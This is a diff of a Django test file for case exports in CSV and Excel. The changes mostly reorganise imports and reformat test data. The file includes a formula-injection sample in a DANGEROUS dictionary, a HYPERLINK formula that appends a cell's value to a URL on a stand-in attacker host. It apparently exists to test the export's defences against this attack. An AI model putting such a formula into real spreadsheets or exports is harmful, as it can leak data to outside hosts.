@@ -13,7 +13,9 @@ from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
 
-from requests_app.models import AssistanceRequest, AssistanceType, Election, ElectionType, Origin, Stage
+from requests_app.cases.choices import ElectionType, Origin, Stage
+from requests_app.cases.models import AssistanceRequest, Election
+from requests_app.reference.models import AssistanceType
 from tests.factories import UserFactory, assistance_type, member_state, new_request, set_due
 
 pytestmark = pytest.mark.django_db
@@ -23,9 +25,21 @@ XLSX_URL = reverse("workspace:case-export-xlsx")
 LIST_URL = reverse("workspace:case-list")
 
 HEADER = [
-    "Reference", "Member State", "Regional group", "Origin", "Requesting authority", "Letter date",
-    "Received date", "Stage", "In stage since", "Due", "Overdue", "Officer", "Next election date",
-    "Assistance requested", "Summary",
+    "Reference",
+    "Member State",
+    "Regional group",
+    "Origin",
+    "Requesting authority",
+    "Letter date",
+    "Received date",
+    "Stage",
+    "In stage since",
+    "Due",
+    "Overdue",
+    "Officer",
+    "Next election date",
+    "Assistance requested",
+    "Summary",
 ]
 
 
@@ -57,26 +71,30 @@ def bulk_cases(count, *, officer=None, prefix="BULK"):
     """Many cases in a handful of queries, each with two elections and two requested types."""
     today = timezone.localdate()
     states = [member_state("GHA"), member_state("FRA"), member_state("MEX")]
-    cases = AssistanceRequest.objects.bulk_create([
-        AssistanceRequest(
-            reference=f"{prefix}-{i:04d}",
-            member_state=states[i % 3],
-            origin=Origin.GOVERNMENT,
-            requesting_authority="Minister for Foreign Affairs",
-            authority_type="foreign_minister",
-            letter_date=today - datetime.timedelta(days=20),
-            received_date=today - datetime.timedelta(days=5 + i % 7),
-            summary=f"Request number {i}",
-            officer=officer,
-            stage_due_at=timezone.now() + datetime.timedelta(days=i % 20 - 10),
-        )
-        for i in range(count)
-    ])
-    Election.objects.bulk_create([
-        Election(case=case, election_type=ElectionType.GENERAL, planned_date=today + datetime.timedelta(days=days))
-        for case in cases
-        for days in (200, 500)
-    ])
+    cases = AssistanceRequest.objects.bulk_create(
+        [
+            AssistanceRequest(
+                reference=f"{prefix}-{i:04d}",
+                member_state=states[i % 3],
+                origin=Origin.GOVERNMENT,
+                requesting_authority="Minister for Foreign Affairs",
+                authority_type="foreign_minister",
+                letter_date=today - datetime.timedelta(days=20),
+                received_date=today - datetime.timedelta(days=5 + i % 7),
+                summary=f"Request number {i}",
+                officer=officer,
+                stage_due_at=timezone.now() + datetime.timedelta(days=i % 20 - 10),
+            )
+            for i in range(count)
+        ]
+    )
+    Election.objects.bulk_create(
+        [
+            Election(case=case, election_type=ElectionType.GENERAL, planned_date=today + datetime.timedelta(days=days))
+            for case in cases
+            for days in (200, 500)
+        ]
+    )
     types = list(AssistanceType.objects.order_by("position")[:2])
     through = AssistanceRequest.requested_types.through
     through.objects.bulk_create([through(assistancerequest=case, assistancetype=t) for case in cases for t in types])
@@ -112,23 +130,25 @@ def test_the_csv_has_one_row_per_case_with_every_column_excel_can_read(client, o
     local_entered = timezone.localtime(ghana.stage_entered_at)
     local_due = timezone.localtime(ghana.stage_due_at)
     next_election = ghana.received_date + datetime.timedelta(days=300)
-    assert rows[1:] == [[
-        ghana.reference,
-        "Ghana",
-        "African States",
-        "Written request from the government",
-        "Ministre des Affaires étrangères",
-        ghana.letter_date.isoformat(),
-        ghana.received_date.isoformat(),
-        "Received",
-        f"{local_entered:%Y-%m-%d %H:%M}",
-        f"{local_due:%Y-%m-%d %H:%M}",
-        "yes",
-        "Amélie Ndiaye",
-        next_election.isoformat(),  # the local election yesterday is past, so not "next"
-        "Voter registration; Training of electoral staff",
-        "Appui à l’inscription des électeurs, région d’Ashanti",
-    ]]
+    assert rows[1:] == [
+        [
+            ghana.reference,
+            "Ghana",
+            "African States",
+            "Written request from the government",
+            "Ministre des Affaires étrangères",
+            ghana.letter_date.isoformat(),
+            ghana.received_date.isoformat(),
+            "Received",
+            f"{local_entered:%Y-%m-%d %H:%M}",
+            f"{local_due:%Y-%m-%d %H:%M}",
+            "yes",
+            "Amélie Ndiaye",
+            next_election.isoformat(),  # the local election yesterday is past, so not "next"
+            "Voter registration; Training of electoral staff",
+            "Appui à l’inscription des électeurs, région d’Ashanti",
+        ]
+    ]
 
 
 def test_the_workbook_has_real_dates_a_bold_frozen_header_and_the_same_values(client, officer, ghana):
@@ -147,7 +167,10 @@ def test_the_workbook_has_real_dates_a_bold_frozen_header_and_the_same_values(cl
     assert sheet.max_row == 2
     assert row[0] == ghana.reference
     assert row[1:5] == [
-        "Ghana", "African States", "Written request from the government", "Ministre des Affaires étrangères",
+        "Ghana",
+        "African States",
+        "Written request from the government",
+        "Ministre des Affaires étrangères",
     ]
     # Dates are dates Excel can sort and compute with, not text.
     assert row[5] == datetime.datetime.combine(ghana.letter_date, datetime.time())
@@ -156,7 +179,8 @@ def test_the_workbook_has_real_dates_a_bold_frozen_header_and_the_same_values(cl
     assert row[8] == timezone.localtime(ghana.stage_entered_at).replace(tzinfo=None, microsecond=0)
     assert row[9] == timezone.localtime(ghana.stage_due_at).replace(tzinfo=None, microsecond=0)
     assert row[10:14] == [
-        "yes", "Amélie Ndiaye",
+        "yes",
+        "Amélie Ndiaye",
         datetime.datetime.combine(ghana.received_date + datetime.timedelta(days=300), datetime.time()),
         "Voter registration; Training of electoral staff",
     ]
@@ -238,7 +262,7 @@ def test_an_invalid_filter_is_ignored_not_an_error(client, officer, three_cases,
 
 
 DANGEROUS = {
-    "summary": "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+    "summary": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
     "requesting_authority": "+41 22 917 1234",
 }
 
@@ -338,7 +362,7 @@ def test_an_unassigned_case_has_no_officer(client, officer):
 
 def test_labels_past_the_shared_strings_limit_go_in_their_cells(client, officer, three_cases, monkeypatch):
     """Repeated labels are written once and pointed to; past the limit, memory stays bounded."""
-    from requests_app import exports
+    from requests_app.cases import exports
 
     monkeypatch.setattr(exports, "XLSX_SHARED_STRINGS_LIMIT", 3)
     client.force_login(officer)
@@ -395,7 +419,7 @@ def test_the_export_costs_the_same_queries_for_5_or_60_cases(client, officer, ur
 def test_a_large_export_reads_its_cases_chunk_by_chunk(client, officer, monkeypatch):
     """Cases are read in chunks, each with one query for its assistance types; the next election
     comes with its case. Queries grow with chunks, not rows."""
-    from requests_app import exports
+    from requests_app.cases import exports
 
     monkeypatch.setattr(exports, "CHUNK_SIZE", 10)
     bulk_cases(30, officer=officer)
